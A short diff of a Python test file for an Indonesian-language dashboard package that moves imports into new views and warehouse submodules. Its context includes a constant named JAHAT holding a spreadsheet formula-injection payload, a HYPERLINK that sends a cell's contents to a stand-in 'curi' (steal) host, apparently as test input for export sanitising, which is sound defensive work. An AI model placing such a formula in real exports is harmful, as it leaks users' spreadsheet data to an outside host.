@@ -14,8 +14,9 @@ import polars as pl
 import pyarrow.parquet as pq
 import pytest
 
-from dasbor import captions, db, sel_kecil, unduhan
-from dasbor.filter_ikm import FilterIkm
+from dasbor.views import captions, sel_kecil, unduhan
+from dasbor.views.filter_ikm import FilterIkm
+from dasbor.warehouse import db
 from tests.conftest import Fixture
 
 JAHAT = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik")'
